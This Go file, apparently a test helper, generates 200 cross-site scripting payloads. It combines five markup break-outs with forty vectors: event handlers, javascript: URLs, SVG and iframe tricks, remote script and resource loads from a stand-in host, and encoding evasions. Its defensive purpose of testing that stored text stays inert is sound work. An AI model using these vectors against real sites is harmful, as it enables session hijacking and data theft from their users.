package browser

import "strings"

// owned is what a script of a payload does, if it runs.
const owned = "window.owned=1"

// elsewhere is where a payload leads, or asks for something.
const elsewhere = "https://elsewhere.example"

// payloads are 200 ways to make a stored text be markup: each vector after each way out of where it may stand.
func payloads() []string {
	outs := []string{"", `">`, `'>`, "</textarea>", "</title></style></script>"}
	vectors := []string{
		"<script>X</script>",
		"<img src=x onerror=X>",
		"<svg onload=X>",
		"<svg><script>X</script></svg>",
		"<svg><animate onbegin=X attributeName=x dur=1s>",
		`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='X'/></svg>#x">`,
		`<iframe srcdoc="<script>parent.X</script>">`,
		`<iframe src="javascript:X">`,
		"<body onload=X>",
		"<input autofocus onfocus=X>",
		"<select autofocus onfocus=X></select>",
		"<details open ontoggle=X>",
		"<video><source onerror=X></video>",
		"<audio src=x onerror=X></audio>",
		"<image src=x onerror=X>",
		"<marquee onstart=X>",
		`<object data="javascript:X"></object>`,
		`<embed src="javascript:X">`,
		`<a href="javascript:X">press</a>`,
		`<math><a xlink:href="javascript:X">press</a></math>`,
		`<form action="javascript:X"><button>press</button></form>`,
		`<button formaction="javascript:X">press</button>`,
		`<meta http-equiv="refresh" content="0;url=E/">`,
		`<base href="E/">`,
		`<link rel="stylesheet" href="E/x.css">`,
		`<style>@import "E/x.css";</style>`,
		`<div style="background:url(E/)">`,
		`<img src="E/pixel.gif">`,
		`<script src="E/x.js"></script>`,
		"<template><script>X</script></template>",
		`<noscript><p title="</noscript><img src=x onerror=X>">`,
		"<!--><img src=x onerror=X>-->",
		"<![CDATA[><script>X</script>]]>",
		`" onmouseover="X" autofocus onfocus="X" x="`,
		`' onmouseover='X' autofocus onfocus='X' x='`,
		"javascript:X//",
		"{{constructor.constructor('X')()}}${X}<%= X %>",
		"%3Cscript%3EX%3C/script%3E&lt;script&gt;X&lt;/script&gt;",
		`\u003cscript\u003eX\u003c/script\u003e+ADw-script+AD4-X+ADw-/script+AD4-`,
		"\u202e<scr\u0000ipt>X</scr\u0000ipt>\u2028<ſcript>X</ſcript>",
	}
	var all []string
	fill := strings.NewReplacer("X", owned, "E", elsewhere, "\u0000", "") // PostgreSQL and our forms keep no NUL
	for _, out := range outs {
		for _, v := range vectors {
			all = append(all, out+fill.Replace(v))
		}
	}
	return all
}
